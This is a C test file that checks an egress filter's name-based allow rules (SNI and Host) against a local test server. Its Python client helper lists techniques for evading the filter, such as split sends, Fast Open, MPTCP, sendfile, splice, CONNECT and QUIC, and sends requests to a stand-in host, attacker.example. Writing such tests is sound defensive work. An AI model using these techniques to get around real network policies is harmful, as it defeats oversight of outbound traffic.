@@ -1,0 +1,583 @@
+// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
+/*
+ * Names over shared addresses (issue 14, docs/names.md), end to end.
+ *
+ * The world's 198.51.100.7 is a "CDN address": dnsmasq names it
+ * allowed.test (and a.example.test), and a server of this test (Python,
+ * in the world netns) on it serves TLS on 8443 and plain HTTP/1.1 on 8081
+ * for any name, logging every SNI it sees ("sni NAME"), every request
+ * ("http port=P req=... host=H") and, per plain connection, the bytes
+ * it received ("close port=P bytes=N"). The policy allows only
+ * allowed.test on those ports; the address is learned through the
+ * resolver daemon (a real lookup from the cgroup first). Real clients
+ * (curl, openssl s_client, wget, Python's ssl) reach allowed.test; with
+ * another name their first send fails with EACCES and the server's log
+ * proves that not one byte of it arrived. Each other path to the wire
+ * (split sends, Fast Open, a send issued in SYN_SENT, MPTCP, sendfile,
+ * splice, keep-alive, no SNI, raw bytes, an oversized ClientHello, QUIC)
+ * is judged by what the server received.
+ *
+ * Only loopback and the test network are ever reached: every client is
+ * pointed at 198.51.100.7 (curl --resolve, openssl -connect).
+ */
+#include <errno.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <sys/stat.h>
+
+#include "harness.h"
+
+#define CDN		W4_A
+#define TLS_PORT	8443
+#define HTTP_PORT	8081
+#define DAEMON_ARGS	"-v --dns-upstream " KT_DNS4
+#define WAIT_MS		5000
+
+static struct {
+	pid_t daemon;
+	pid_t server;
+	char log[PATH_MAX];		/* the daemon's */
+	char srv_log[PATH_MAX];		/* the world server's */
+	char cert[PATH_MAX];
+	char key[PATH_MAX];
+	char py[PATH_MAX];		/* the server script */
+	char cli[PATH_MAX];		/* the client helper script */
+} N;
+
+/* The world's server: TLS and HTTP/1.1 for any name, logging what came. */
+static const char server_py[] =
+"import socket, ssl, sys, threading\n"
+"log = open(sys.argv[1], 'a', buffering=1)\n"
+"ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\n"
+"ctx.load_cert_chain(sys.argv[2], sys.argv[3])\n"
+"ctx.sni_callback = lambda s, name, c: log.write('sni %s\\n' % name)\n"
+"def serve_http(s, port, total):\n"
+"    buf = b''\n"
+"    while True:\n"
+"        while b'\\r\\n\\r\\n' not in buf:\n"
+"            d = s.recv(65536)\n"
+"            if not d:\n"
+"                return\n"
+"            total[0] += len(d)\n"
+"            buf += d\n"
+"        head, buf = buf.split(b'\\r\\n\\r\\n', 1)\n"
+"        lines = head.split(b'\\r\\n')\n"
+"        host, clen = '-', 0\n"
+"        for l in lines[1:]:\n"
+"            k, _, v = l.partition(b':')\n"
+"            k = k.strip().lower()\n"
+"            if k == b'host':\n"
+"                host = v.strip().decode(errors='replace')\n"
+"            if k == b'content-length':\n"
+"                clen = int(v.strip())\n"
+"        while len(buf) < clen:\n"
+"            d = s.recv(65536)\n"
+"            if not d:\n"
+"                return\n"
+"            total[0] += len(d)\n"
+"            buf += d\n"
+"        buf = buf[clen:]\n"
+"        log.write('http port=%d req=%s host=%s\\n' % (port, lines[0].decode(errors='replace'), host))\n"
+"        body = ('hello %s\\n' % host).encode()\n"
+"        s.sendall(b'HTTP/1.1 200 OK\\r\\nContent-Length: %d\\r\\n\\r\\n%s' % (len(body), body))\n"
+"def handle(c, port):\n"
+"    total = [0]\n"
+"    try:\n"
+"        c.settimeout(15)\n"
+"        first = c.recv(1, socket.MSG_PEEK)\n"
+"        if first and first[0] == 0x16 and port != 8081:\n"
+"            s = ctx.wrap_socket(c, server_side=True)\n"
+"            total[0] = -1\n"
+"            serve_http(s, port, [0])\n"
+"        elif first:\n"
+"            serve_http(c, port, total)\n"
+"    except Exception as e:\n"
+"        log.write('error port=%d %s\\n' % (port, type(e).__name__))\n"
+"    finally:\n"
+"        log.write('close port=%d bytes=%d\\n' % (port, total[0]))\n"
+"        c.close()\n"
+"def listen(addr, port):\n"
+"    l = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
+"    l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
+"    l.bind((addr, port))\n"
+"    l.listen(64)\n"
+"    while True:\n"
+"        c, a = l.accept()\n"
+"        threading.Thread(target=handle, args=(c, port), daemon=True).start()\n"
+"for spec in sys.argv[4:]:\n"
+"    a, p = spec.rsplit(':', 1)\n"
+"    threading.Thread(target=listen, args=(a, int(p)), daemon=True).start()\n"
+"open(sys.argv[1] + '.ready', 'w').close()\n"
+"threading.Event().wait()\n";
+
+/*
+ * Clients that curl and openssl cannot be: `python3 cli.py TECHNIQUE`
+ * prints "OK", "EACCES", "EPERM" or "ERR <name>" for the step it judges.
+ */
+static const char client_py[] =
+"import os, socket, ssl, sys, time, errno\n"
+"CDN = '" CDN "'\n"
+"def req(host, path='/'):\n"
+"    return ('GET %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (path, host)).encode()\n"
+"def word(e):\n"
+"    return {errno.EACCES: 'EACCES', errno.EPERM: 'EPERM'}.get(e.errno, 'ERR ' + errno.errorcode.get(e.errno, str(e.errno)))\n"
+"def conn(port, proto=0):\n"
+"    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, proto)\n"
+"    s.settimeout(5)\n"
+"    s.connect((CDN, port))\n"
+"    return s\n"
+"def reply(s):\n"
+"    d = s.recv(4096)\n"
+"    return 'OK' if d.startswith(b'HTTP/1.1 200') else 'ERR noreply'\n"
+"def hello(name, pad=0):\n"
+"    # a TLS 1.2/1.3 ClientHello as clients build it, SNI NAME, PAD bytes of padding ext\n"
+"    sni = name.encode()\n"
+"    ext = b''\n"
+"    if sni:\n"
+"        sn = b'\\x00' + len(sni).to_bytes(2, 'big') + sni\n"
+"        ext += b'\\x00\\x00' + (len(sn) + 2).to_bytes(2, 'big') + len(sn).to_bytes(2, 'big') + sn\n"
+"    ext += b'\\x00\\x2b\\x00\\x03\\x02\\x03\\x04'\n"
+"    if pad:\n"
+"        ext += b'\\x00\\x15' + pad.to_bytes(2, 'big') + b'\\x00' * pad\n"
+"    body = b'\\x03\\x03' + os.urandom(32) + b'\\x00' + b'\\x00\\x02\\x13\\x01' + b'\\x01\\x00' + len(ext).to_bytes(2, 'big') + ext\n"
+"    hs = b'\\x01' + len(body).to_bytes(3, 'big') + body\n"
+"    return b'\\x16\\x03\\x01' + len(hs).to_bytes(2, 'big') + hs\n"
+"def run(t):\n"
+"    if t == 'pyssl-allowed':\n"
+"        c = ssl.create_default_context(cafile=sys.argv[3])\n"
+"        s = c.wrap_socket(socket.create_connection((CDN, 8443), timeout=5), server_hostname='allowed.test')\n"
+"        s.sendall(req('allowed.test')); return reply(s)\n"
+"    if t == 'http-allowed':\n"
+"        s = conn(8081); s.sendall(req('allowed.test')); return reply(s)\n"
+"    if t == 'http-keepalive-other':\n"
+"        s = conn(8081); s.sendall(req('allowed.test', '/first'))\n"
+"        if reply(s) != 'OK': return 'ERR first'\n"
+"        s.sendall(req('attacker.example', '/second')); return 'OK'\n"
+"    if t == 'http-pipelined-other':\n"
+"        s = conn(8081); s.sendall(req('allowed.test', '/one') + req('attacker.example', '/two')); return 'OK'\n"
+"    if t == 'http-absolute-other':\n"
+"        s = conn(8081); s.sendall(b'GET http://attacker.example/ HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); return 'OK'\n"
+"    if t == 'http-connect':\n"
+"        s = conn(8081); s.sendall(b'CONNECT attacker.example:443 HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'); return 'OK'\n"
+"    if t == 'http-split-other':\n"
+"        s = conn(8081)\n"
+"        for b in [b'GET / HT', b'TP/1.1\\r\\nHo', b'st: attacker.ex', b'ample\\r\\n\\r\\n']:\n"
+"            s.send(b); time.sleep(0.05)\n"
+"        return 'OK'\n"
+"    if t == 'http-split-allowed':\n"
+"        s = conn(8081)\n"
+"        for b in [b'GET / HT', b'TP/1.1\\r\\nHo', b'st: Allowed.Test.', b'\\r\\n\\r\\n']:\n"
+"            s.send(b); time.sleep(0.05)\n"
+"        return reply(s)\n"
+"    if t == 'h2c-preface':\n"
+"        s = conn(8081); s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'); return 'OK'\n"
+"    if t == 'raw':\n"
+"        s = conn(8081); s.sendall(b'\\x00secret bytes\\n'); return 'OK'\n"
+"    if t == 'tls-split-allowed':\n"
+"        s = conn(8443); h = hello('allowed.test', 1700)\n"
+"        for i in range(0, len(h), 500):\n"
+"            s.send(h[i:i + 500]); time.sleep(0.05)\n"
+"        time.sleep(0.5); return 'OK'\n"
+"    if t == 'tls-split-other':\n"
+"        s = conn(8443); h = hello('attacker.example', 1700)\n"
+"        for i in range(0, len(h), 500):\n"
+"            s.send(h[i:i + 500]); time.sleep(0.05)\n"
+"        return 'OK'\n"
+"    if t == 'tls-nosni':\n"
+"        s = conn(8443); s.sendall(hello('')); return 'OK'\n"
+"    if t == 'tls-oversized':\n"
+"        s = conn(8443); h = hello('allowed.test', 17000); s.sendall(h); return 'OK'\n"
+"    if t == 'tls-then-other':\n"
+"        # a good ClientHello, then a second one with another name: TLS by then\n"
+"        s = conn(8443); s.sendall(hello('allowed.test')); time.sleep(0.3); return 'OK'\n"
+"    if t == 'sendfile-other':\n"
+"        s = conn(8081); f = open(sys.argv[2], 'wb+'); f.write(req('attacker.example')); f.flush()\n"
+"        os.sendfile(s.fileno(), f.fileno(), 0, len(req('attacker.example'))); return 'OK'\n"
+"    if t == 'sendfile-allowed':\n"
+"        s = conn(8081); f = open(sys.argv[2], 'wb+'); f.write(req('allowed.test')); f.flush()\n"
+"        os.sendfile(s.fileno(), f.fileno(), 0, len(req('allowed.test'))); return reply(s)\n"
+"    if t == 'splice-other':\n"
+"        s = conn(8081); r, w = os.pipe(); os.write(w, req('attacker.example'))\n"
+"        os.splice(r, s.fileno(), len(req('attacker.example'))); return 'OK'\n"
+"    if t == 'synsent-other':\n"
+"        # the send is issued while the socket is in SYN_SENT: it waits in\n"
+"        # tcp_sendmsg, outside sk_msg, and goes out once established\n"
+"        s = socket.socket(); s.setblocking(False)\n"
+"        s.connect_ex((CDN, 8081)); s.setblocking(True); s.settimeout(5)\n"
+"        s.send(req('attacker.example')); time.sleep(1.5)\n"
+"        try:\n"
+"            s.send(req('allowed.test'))\n"
+"        except OSError as e:\n"
+"            return 'SECOND ' + word(e)\n"
+"        return 'SECOND OK'\n"
+"    if t == 'tfo':\n"
+"        s = socket.socket(); s.settimeout(5)\n"
+"        s.sendto(req('attacker.example'), socket.MSG_FASTOPEN, (CDN, 8081)); return 'OK'\n"
+"    if t == 'tfo-connect':\n"
+"        s = socket.socket(); s.settimeout(5)\n"
+"        s.setsockopt(socket.IPPROTO_TCP, 30, 1)  # TCP_FASTOPEN_CONNECT\n"
+"        s.connect((CDN, 8081)); s.send(req('attacker.example')); return 'OK'\n"
+"    if t == 'mptcp':\n"
+"        s = conn(8081, 262); s.sendall(req('attacker.example')); return 'OK'\n"
+"    if t == 'quic':\n"
+"        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n"
+"        s.connect((CDN, 443)); s.send(b'\\xc0quic initial'); s.recv(100); return 'OK'\n"
+"    if t == 'echo':\n"
+"        s = conn(8080); s.sendall(b'ping\\n'); return 'OK' if s.recv(10) == b'ping\\n' else 'ERR echo'\n"
+"    return 'BAD technique'\n"
+"try:\n"
+"    print(run(sys.argv[1]))\n"
+"except OSError as e:\n"
+"    print(word(e))\n";
+
+static void write_file(const char *path, const char *text)
+{
+	FILE *f = fopen(path, "w");
+
+	cr_assert_not_null(f, "create %s: %s", path, strerror(errno));
+	fputs(text, f);
+	cr_assert_eq(fclose(f), 0);
+}
+
+static void names_setup(void)
+{
+	struct run_result r;
+	char ready[PATH_MAX + 8];
+
+	memset(&N, 0, sizeof(N));
+	harness_setup();
+	testnet_dns_up();
+	daemon_forget_registrations();
+	snprintf(N.log, sizeof(N.log), "%.*s/daemon.log", PATH_MAX - 64, H.tmpdir);
+	snprintf(N.srv_log, sizeof(N.srv_log), "%.*s/server.log", PATH_MAX - 64, H.tmpdir);
+	snprintf(N.cert, sizeof(N.cert), "%.*s/cert.pem", PATH_MAX - 64, H.tmpdir);
+	snprintf(N.key, sizeof(N.key), "%.*s/key.pem", PATH_MAX - 64, H.tmpdir);
+	snprintf(N.py, sizeof(N.py), "%.*s/server.py", PATH_MAX - 64, H.tmpdir);
+	snprintf(N.cli, sizeof(N.cli), "%.*s/cli.py", PATH_MAX - 64, H.tmpdir);
+	write_file(N.py, server_py);
+	write_file(N.cli, client_py);
+	run(&r, "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 "
+	    "-nodes -keyout %s -out %s -days 2 -subj /CN=allowed.test -addext "
+	    "subjectAltName=DNS:allowed.test,DNS:a.example.test,DNS:attacker.example",
+	    N.key, N.cert);
+	cr_assert_eq(r.status, 0, "openssl req: %s", r.err);
+	run_free(&r);
+	N.server = spawn_bg("exec nsenter --net=" KT_NS_WORLD " python3 %s %s %s %s "
+			    CDN ":%d " CDN ":%d", N.py, N.srv_log, N.cert, N.key,
+			    TLS_PORT, HTTP_PORT);
+	snprintf(ready, sizeof(ready), "%s.ready", N.srv_log);
+	cr_assert(wait_file(ready, WAIT_MS), "the world's TLS/HTTP server did not start");
+	N.daemon = daemon_start(DAEMON_ARGS, N.log);
+}
+
+static void names_teardown(void)
+{
+	if (N.server > 0) {
+		kill(-N.server, SIGTERM);
+		wait_bg(N.server, 2000);
+	}
+	if (N.daemon > 0)
+		daemon_stop(N.daemon);
+	daemon_forget_registrations();
+	harness_teardown();
+}
+
+#define NTEST(name)							\
+	Test(names, name, .init = names_setup, .fini = names_teardown,	\
+	     .timeout = KT_TEST_TIMEOUT_S)
+
+/* A cgroup under RULES whose address for allowed.test was learned. */
+static const char *cg_names(const char *name, const char *rules)
+{
+	const char *cg = cg_make(name);
+	const char *w;
+
+	moat_ok("attach %s --netns " KT_NS_CLIENT " %s", cg, rules);
+	w = dns_query(cg, "", KT_DNS4, "allowed.test", "A");
+	cr_assert_str_eq(w, "NOERROR A=198.51.100.7", "lookup: '%s'", w);
+	return cg;
+}
+
+/* Run CMD in cgroup CG inside the client netns; stdout+stderr, trimmed. */
+static char *in_cg(const char *cg, const char *fmt, ...)
+	__attribute__((format(printf, 2, 3)));
+static char *in_cg(const char *cg, const char *fmt, ...)
+{
+	struct run_result r;
+	char script[PATH_MAX], *cmd = NULL, *out;
+	va_list ap;
+	size_t n;
+	FILE *f;
+
+	va_start(ap, fmt);
+	cr_assert_geq(vasprintf(&cmd, fmt, ap), 0);
+	va_end(ap);
+	snprintf(script, sizeof(script), "%.*s/cmd.sh", PATH_MAX - 64, H.tmpdir);
+	f = fopen(script, "w");
+	cr_assert_not_null(f);
+	fprintf(f, "%s\n", cmd);
+	cr_assert_eq(fclose(f), 0);
+	free(cmd);
+	run(&r, "nsenter --net=" KT_NS_CLIENT " sh -c 'echo $$ > %s/cgroup.procs && "
+	    "exec sh %s' 2>&1", cg, script);
+	if (asprintf(&out, "%s%s", r.out, r.err) < 0)
+		out = NULL;
+	run_free(&r);
+	cr_assert_not_null(out);
+	n = strlen(out);
+	while (n && (out[n - 1] == '\n' || out[n - 1] == ' '))
+		out[--n] = 0;
+	return out;
+}
+
+/* `python3 cli.py T` in CG: its verdict word. */
+static char *technique(const char *cg, const char *t)
+{
+	return in_cg(cg, "python3 %s %s %s/scratch %s", N.cli, t, H.tmpdir, N.cert);
+}
+
+static char *srv_log(void)
+{
+	char *s = read_text(N.srv_log);
+
+	return s ? s : strdup("");
+}
+
+/* Give the server a moment to log what it received (or its close). */
+static void settle(void)
+{
+	kt_sleep_ms(400);
+}
+
+#define expect_srv_not(needle)						\
+	do {								\
+		char *_l = srv_log();					\
+		cr_assert_null(strstr(_l, needle),			\
+			       "the world server received it: '%s' in:\n%s", \
+			       needle, _l);				\
+		free(_l);						\
+	} while (0)
+#define expect_srv(needle)						\
+	do {								\
+		char *_l = srv_log();					\
+		cr_assert_not_null(strstr(_l, needle),			\
+				   "the world server never got '%s':\n%s", \
+				   needle, _l);				\
+		free(_l);						\
+	} while (0)
+
+#define RULES	"--allow tcp://allowed.test:8443 --allow tcp://allowed.test:8081"
+
+#define CURL	"curl -sS -m 5 --cacert %s "
+
+/* Real clients reach the allowed name; another name fails at the first send. */
+NTEST(tls_real_clients)
+{
+	const char *cg = cg_names("tls", RULES);
+	char *o;
+
+	o = in_cg(cg, CURL "--resolve allowed.test:8443:" CDN
+		  " https://allowed.test:8443/", N.cert);
+	cr_assert_str_eq(o, "hello allowed.test:8443", "curl: '%s'", o);
+	free(o);
+	/* the name as clients may write it: upper case, a trailing dot */
+	o = in_cg(cg, CURL "--connect-to ALLOWED.test.:8443:" CDN ":8443"
+		  " https://ALLOWED.test.:8443/", N.cert);
+	cr_assert(strstr(o, "hello"), "curl upper case, trailing dot: '%s'", o);
+	free(o);
+	o = in_cg(cg, "printf 'GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n' | "
+		  "timeout 5 openssl s_client -quiet -connect " CDN ":8443 "
+		  "-servername allowed.test -CAfile %s 2>/dev/null", N.cert);
+	cr_assert(strstr(o, "hello allowed.test"), "openssl s_client: '%s'", o);
+	free(o);
+	o = technique(cg, "pyssl-allowed");
+	cr_assert_str_eq(o, "OK", "python ssl: '%s'", o);
+	free(o);
+
+	/* the same address, another name: EACCES at the first send */
+	o = in_cg(cg, CURL "-k --resolve attacker.example:8443:" CDN
+		  " https://attacker.example:8443/", N.cert);
+	cr_assert(strstr(o, "Permission denied"), "curl other name: '%s'", o);
+	free(o);
+	o = in_cg(cg, CURL "-k --resolve a.example.test:8443:" CDN
+		  " https://a.example.test:8443/", N.cert);
+	cr_assert(strstr(o, "Permission denied"), "curl a.example.test: '%s'", o);
+	free(o);
+	o = in_cg(cg, "timeout 5 openssl s_client -connect " CDN ":8443 "
+		  "-servername attacker.example </dev/null 2>&1 | head -1");
+	cr_assert(strstr(o, "errno=13"), "openssl other name: '%s'", o);
+	free(o);
+	o = in_cg(cg, "timeout 5 openssl s_client -connect " CDN ":8443 "
+		  "-noservername </dev/null 2>&1 | head -1");
+	cr_assert(strstr(o, "errno=13"), "openssl without SNI: '%s'", o);
+	free(o);
+	settle();
+	expect_srv("sni allowed.test");
+	expect_srv_not("sni attacker.example");
+	expect_srv_not("sni a.example.test");
+}
+
+/* Plain HTTP: every request's Host, keep-alive and pipelining too. */
+NTEST(http_host)
+{
+	const char *cg = cg_names("http", RULES);
+	char *o;
+
+	o = in_cg(cg, "curl -sS -m 5 -H 'Host: allowed.test' http://" CDN ":8081/a "
+		  "-H 'Host: allowed.test' http://" CDN ":8081/b");
+	cr_assert_str_eq(o, "hello allowed.test\nhello allowed.test", "curl keep-alive: '%s'", o);
+	free(o);
+	o = in_cg(cg, "wget -q -O - --header='Host: allowed.test' http://" CDN ":8081/wget");
+	cr_assert_str_eq(o, "hello allowed.test", "wget: '%s'", o);
+	free(o);
+	o = in_cg(cg, "curl -sS -m 5 -H 'Host: attacker.example' http://" CDN ":8081/x");
+	cr_assert(strstr(o, "Permission denied"), "curl other Host: '%s'", o);
+	free(o);
+	o = technique(cg, "http-split-allowed");
+	cr_assert_str_eq(o, "OK", "split request, allowed: '%s'", o);
+	free(o);
+	o = technique(cg, "http-keepalive-other");
+	cr_assert_str_eq(o, "EACCES", "keep-alive, second Host another name: '%s'", o);
+	free(o);
+	o = technique(cg, "http-pipelined-other");
+	cr_assert_str_eq(o, "EACCES", "pipelined: '%s'", o);
+	free(o);
+	o = technique(cg, "http-absolute-other");
+	cr_assert_str_eq(o, "EACCES", "absolute-form: '%s'", o);
+	free(o);
+	o = technique(cg, "http-connect");
+	cr_assert_str_eq(o, "EACCES", "CONNECT: '%s'", o);
+	free(o);
+	o = technique(cg, "http-split-other");
+	cr_assert_str_eq(o, "EACCES", "split request, other Host: '%s'", o);
+	free(o);
+	o = technique(cg, "h2c-preface");
+	cr_assert_str_eq(o, "EACCES", "h2c prior knowledge: '%s'", o);
+	free(o);
+	o = technique(cg, "raw");
+	cr_assert_str_eq(o, "EACCES", "raw bytes: '%s'", o);
+	free(o);
+	o = technique(cg, "sendfile-allowed");
+	cr_assert_str_eq(o, "OK", "sendfile, allowed: '%s'", o);
+	free(o);
+	o = technique(cg, "sendfile-other");
+	cr_assert_str_eq(o, "EACCES", "sendfile: '%s'", o);
+	free(o);
+	o = technique(cg, "splice-other");
+	cr_assert_str_eq(o, "EACCES", "splice: '%s'", o);
+	free(o);
+	settle();
+	expect_srv("req=GET /first HTTP/1.1 host=allowed.test");
+	expect_srv("req=GET /one HTTP/1.1 host=allowed.test");
+	expect_srv_not("attacker.example");
+	expect_srv_not("/second");
+	expect_srv_not("/two");
+	expect_srv_not("/x ");
+	expect_srv_not("secret");
+}
+
+/* TLS ClientHellos as the sk_msg program sees them. */
+NTEST(tls_hellos)
+{
+	const char *cg = cg_names("hello", RULES);
+	char *o;
+
+	/* ~1.8 KB (a post-quantum key share's size) in four sends */
+	o = technique(cg, "tls-split-allowed");
+	cr_assert_str_eq(o, "OK", "split ClientHello, allowed: '%s'", o);
+	free(o);
+	o = technique(cg, "tls-split-other");
+	cr_assert_str_eq(o, "EACCES", "split ClientHello, other: '%s'", o);
+	free(o);
+	o = technique(cg, "tls-nosni");
+	cr_assert_str_eq(o, "EACCES", "no SNI: '%s'", o);
+	free(o);
+	o = technique(cg, "tls-oversized");
+	cr_assert_str_eq(o, "EACCES", "larger than a record: '%s'", o);
+	free(o);
+	settle();
+	expect_srv("sni allowed.test");
+	expect_srv_not("sni attacker.example");
+}
+
+/* Paths around sk_msg: SYN_SENT, Fast Open, MPTCP; and QUIC. */
+NTEST(second_line)
+{
+	const char *cg = cg_names("second", RULES " --allow allowed.test:443");
+	char *o;
+
+	o = technique(cg, "synsent-other");
+	/* its bytes never leave; the next send finds the stream tainted */
+	cr_assert_str_eq(o, "SECOND EACCES", "send in SYN_SENT: '%s'", o);
+	free(o);
+	o = technique(cg, "tfo");
+	cr_assert_str_eq(o, "EPERM", "MSG_FASTOPEN: '%s'", o);
+	free(o);
+	o = technique(cg, "tfo-connect");
+	cr_assert_str_eq(o, "EPERM", "TCP_FASTOPEN_CONNECT: '%s'", o);
+	free(o);
+	o = technique(cg, "mptcp");
+	cr_assert(!strcmp(o, "EPERM") || !strcmp(o, "ERR EPROTONOSUPPORT"),
+		  "MPTCP: '%s'", o);
+	free(o);
+	o = technique(cg, "quic");
+	cr_assert_str_eq(o, "EPERM", "QUIC (UDP 443): '%s'", o);
+	free(o);
+	settle();
+	expect_srv_not("attacker.example");
+	cr_assert_not(world_log_has_proto("udp", CDN, 443),
+		      "a QUIC datagram reached the world");
+}
+
+/* The opt-out: ?names=any, visible in policy check and status. */
+NTEST(opt_out)
+{
+	const char *cg = cg_names("optout", "--allow 'tcp://allowed.test:8080?names=any'"
+				  " --allow 'udp://allowed.test:443?names=any'"
+				  " --allow tcp://allowed.test:8081");
+	struct run_result r;
+	char *o;
+
+	o = technique(cg, "echo");
+	cr_assert_str_eq(o, "OK", "raw TCP under ?names=any: '%s'", o);
+	free(o);
+	o = technique(cg, "quic");
+	cr_assert(strcmp(o, "EPERM"), "UDP 443 under ?names=any: '%s'", o);
+	free(o);
+	o = technique(cg, "raw");
+	cr_assert_str_eq(o, "EACCES", "8081 is still checked: '%s'", o);
+	free(o);
+	write_policy("optout", "allow:\n  - tcp://git.test:22?names=any\n  - registry.test:443\n");
+	moat(&r, "policy check %s/optout.yaml", H.tmpdir);
+	cr_assert_eq(r.status, 0, "policy check: %s", r.err);
+	cr_assert(strstr(r.out, "git.test:22?names=any"), "policy check shows the opt-out:\n%s", r.out);
+	cr_assert(strstr(r.out, "QUIC"), "policy check says what a :443 rule allows:\n%s", r.out);
+	run_free(&r);
+}
+
+/* The denial log names what was seen. */
+NTEST(denial_log)
+{
+	const char *cg = cg_names("log", RULES);
+	pid_t ev;
+	char evlog[PATH_MAX], *o, *l;
+
+	snprintf(evlog, sizeof(evlog), "%.*s/events.txt", PATH_MAX - 64, H.tmpdir);
+	ev = spawn_bg("exec %s events > %s 2>&1", H.moat, evlog);
+	kt_sleep_ms(300);
+	o = in_cg(cg, CURL "-k --resolve attacker.example:8443:" CDN
+		  " https://attacker.example:8443/", N.cert);
+	free(o);
+	kt_sleep_ms(300);
+	kill(-ev, SIGTERM);
+	wait_bg(ev, 2000);
+	l = read_text(evlog);
+	cr_assert(l && strstr(l, "tcp " CDN ":8443 sni=attacker.example: name not allowed"),
+		  "events: %s", l ? l : "(none)");
+	cr_assert(strstr(l, "DENY  curl["), "events: %s", l);
+	free(l);
+}
